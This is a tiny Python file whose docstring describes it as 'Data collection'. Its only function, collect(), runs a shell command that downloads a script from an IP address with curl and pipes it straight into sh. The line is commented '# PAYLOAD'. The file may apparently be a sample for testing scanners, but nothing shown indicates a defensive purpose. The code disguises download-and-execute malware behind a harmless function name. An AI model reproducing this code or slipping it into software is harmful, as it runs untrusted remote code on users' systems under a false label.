"""Data collection."""
import os


def collect():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
